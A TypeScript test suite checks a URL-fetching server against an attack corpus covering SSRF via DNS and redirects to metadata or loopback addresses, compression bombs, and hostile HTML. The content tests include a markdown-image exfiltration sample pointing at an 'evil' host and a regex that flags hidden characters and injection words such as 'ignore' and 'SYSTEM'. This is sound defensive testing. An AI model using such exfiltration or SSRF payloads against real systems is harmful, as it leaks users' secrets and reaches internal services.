import type { Answer, RunningServer } from "@postern/testing";
import { afterAll, beforeAll, describe, test } from "vitest";
import { attacks, noCorpus } from "../../packages/network/test/corpus.ts";
import { expect } from "../expect.ts";
import { authority } from "../world/certificates.ts";
import { noIsolation } from "../world/isolation.ts";
import type { AnswerScript, Seen, WorldScript } from "../world/script.ts";
import { publicOrigin, startWorld, type World } from "../world/world.ts";
import { answerBy, movedBy, nameOf, ownAddress, slowBodies, usualNames, type DnsInput, type RedirectInput, type ResponseInput } from "./answer-rows.ts";
import { startFetcher } from "./start-fetcher.ts";

/** What resolvers and origins of the corpus do to a server, in a world in which whatever is connected to hears it. */
const missing = noCorpus === "" ? noIsolation : noCorpus;
const network = `{ resolvers: ["127.0.0.1:53"], serviceNetworks: [10.96.0.0/12], ca: [${JSON.stringify(authority)}] }`;
const cards = [
  ["any", '{ hosts: ["*"], robots: ignore, retries: 1 }'],
  ["named", '{ hosts: [allowed.example, "*.allowed.example"], robots: ignore, retries: 1 }'],
] as const;

/** Rows that end otherwise than the corpus says, each with why; every other one ends as it says. */
const otherwise: Readonly<Record<string, string>> = {
  "CNAME chain through special-use names with public tail: deny by chain policy":
    "aliases are not asked for where the policy does not want it: what the last one's address is counts",
  "CNAME loop": "denied as a name without addresses",
  "write side: no redirects at all": "this server has no write side: the redirect of a GET is followed",
  "CRLF stays percent encoded": "denied for the space in it",
};

interface Ran {
  readonly answer: Answer;
  readonly seen: Seen;
  readonly call: ReturnType<RunningServer["calls"]>[number] | undefined;
}

describe.skipIf(missing !== "").each(cards)(`under a card of the hosts "%s"${missing}`, (card, targets) => {
  let world: World;
  let server: RunningServer;
  beforeAll(async () => {
    world = await startWorld({ ports: [80, 443, 8443], prepare: `ip addr add ${ownAddress}/32 dev lo` });
    await world.script({ names: usualNames });
    server = await startFetcher({ world, network, cards: { [card]: targets } });
  });
  afterAll(async () => {
    await server.close();
    await world[Symbol.asyncDispose]();
  });

  async function run(url: string, script: WorldScript): Promise<Ran> {
    await world.script(script);
    await world.seen();
    const answer = await server.call("fetch", { url });
    const seen = await world.seen();
    expect(seen.trapped).toEqual([]);
    return { answer, seen, call: server.calls({}).at(-1) };
  }

  const rows = <Input>(kind: string, read: (input: unknown) => Input) =>
    attacks(kind).map(({ input, ...row }, at) => ({ ...row, input: read(input), at, shown: JSON.stringify(input).slice(0, 100) }));

  test.each(rows("dns", (input) => input as DnsInput))(
    "a name that is $shown is $expected_category: $why (U1)",
    async ({ input, at, why, expected_category: category }) => {
      const name = `row-${at}.allowed.example`;
      const raw = `http://${name}/`;
      const { answer, seen, call } = await run(raw, { names: { [name]: nameOf(name, input) }, answers: { "/": input.retry === true ? { drop: true } : {} } });
      if (category === "pinned" || category === "special-name") {
        // One lookup, and one request, to the address of that lookup.
        expect([answer.isError, seen.requests.length, seen.asked.length]).toEqual([false, 1, 2]);
        expect(new Set(seen.reached.map(({ address }) => address))).toEqual(new Set([publicOrigin]));
        return;
      }
      if (input.retry === true) {
        expect(answer).toFailWith("net.address");
        expect([seen.begun, seen.asked.length]).toEqual([1, 4]);
        expect(call).toMatchObject({ found: [{ operation: "retry", decision: "deny", addresses: [{ category }] }] });
        return;
      }
      const code = category.startsWith("dns-") ? "net.dns" : "net.address";
      expect(answer).toDenyWith(code, why in otherwise ? undefined : category);
      expect([seen.reached, seen.begun]).toEqual([[], 0]);
      expect(call).toMatchObject({ decision: "deny", code, targets: [{ raw, canonical: raw, host: name, decision: "deny", code }] });
      if (code === "net.address") expect(call?.targets[0]?.addresses?.map((each) => each.category)).toContain(category);
    },
  );

  const redirectCodes: Readonly<Record<string, readonly string[]>> = {
    metadata: ["net.address"],
    loopback: ["net.address"],
    scheme: ["net.scheme", "net.redirect"],
    "host-not-allowed": card === "any" ? ["net.dns"] : ["net.host_not_allowed"],
    port: ["net.port"],
    userinfo: ["net.url"],
    "redirect-limit": ["net.redirect"],
    "redirect-ambiguous": ["net.redirect"],
  };
  test.each(rows("redirect", (input) => input as RedirectInput))(
    "the redirect $shown is $expected_category: $why (U1, U4)",
    async ({ input, why, expected_category: category }) => {
      const { answer, seen, call } = await run(input.from, { answers: { "/": {}, "/b": {}, ...movedBy(input) } });
      const codes = why.startsWith("CRLF") ? ["net.url"] : redirectCodes[category];
      if (codes === undefined) {
        expect([answer.isError, seen.requests.length]).toEqual([false, category === "redirect-on-write" ? 2 : 1]);
        return;
      }
      expect(answer).toFailWith("net.redirect");
      expect(seen.requests).toHaveLength(input.chain === undefined ? 1 : 6);
      const denied = call?.found.at(-1);
      expect(denied).toMatchObject({ operation: "redirect", decision: "deny" });
      expect(codes).toContain(denied?.code);
      if (codes.includes("net.address")) expect(denied?.addresses).toMatchObject([{ category }]);
    },
  );

  const responseCodes: Readonly<Record<string, string | undefined>> = {
    "br bomb": "net.too_large",
    "gzip bomb": "net.too_large",
    "gzip,gzip": "net.decode",
    zstd: "net.decode",
    "99999999999": "net.too_large",
    "": "net.content_type",
    "application/octet-stream": "net.content_type",
    "text/html; charset=utf-7": "net.decode",
    "101": "net.decode",
  };
  test.each(rows("response", (input) => input as ResponseInput).filter(({ input }) => !((input.body ?? "") in slowBodies)))(
    "the answer $shown is $expected_category: $why (U4, N5)",
    async ({ input }) => {
      const { answer, seen, call } = await run("https://allowed.example/", { answers: { "/": answerBy(input) } });
      expect(seen.requests).toHaveLength(1);
      const code = responseCodes[String(input.body ?? input.contentLength ?? input.contentType ?? input.status)];
      if (code === undefined) expect(answer).toMatchObject({ isError: false });
      else expect(answer).toFailWith(code);
      expect(call).toMatchObject({ decision: "allow", outcome: code === undefined ? "ok" : "failed", failure: code ?? null });
    },
  );

  test.each(rows("content", String))("$shown in a page is taken out or told of: $why (U4)", async ({ input, why }) => {
    const body = Buffer.from(`<html><body><p>before</p>${input}<p>after</p></body></html>`).toString("base64");
    const page: AnswerScript = { headers: [["content-type", "text/html; charset=utf-8"]], body };
    const { answer, call } = await run("https://allowed.example/", { answers: { "/": page } });
    const [text = "", note = ""] = answer.content.map((block) => String(block["text"]));
    const shown = /before\n\n([\s\S]*?)\n*after/.exec(text)?.[1]?.trim() ?? "missing";
    const asText: Readonly<Record<string, string>> = {
      "markdown image exfiltration": String.raw`!\[x\](http://evil/?q=SECRET)`,
      details: "a\nhidden",
      "white on white": "x",
    };
    if (why in asText) expect(shown).toBe(asText[why]);
    else expect([shown, why === "comment" || /left out: |title "/.test(note)]).toEqual([/^[a-z]+$/.test(shown) ? shown : "", true]);
    expect(shown).not.toMatch(/\p{Cf}|\p{Variation_Selector}|ignore|SYSTEM|javascript|[^\\]\]\(/u);
    expect(call).toMatchObject({ outcome: "ok" });
  });
});

test.skipIf(noCorpus !== "")(`every row of the corpus is run${noCorpus}`, () => {
  const kinds =
    "ip dns header redirect response content url-ip url-name url-ip-obfuscated url-invalid url-ipv6-embedded url-scheme url-parser url-allowed-neighbor".split(
      " ",
    );
  expect(attacks(...kinds).length).toBe(attacks().length);
  // What ends otherwise is a row, and there is no other name for it.
  expect(attacks().filter(({ why }) => why in otherwise)).toHaveLength(Object.keys(otherwise).length);
});
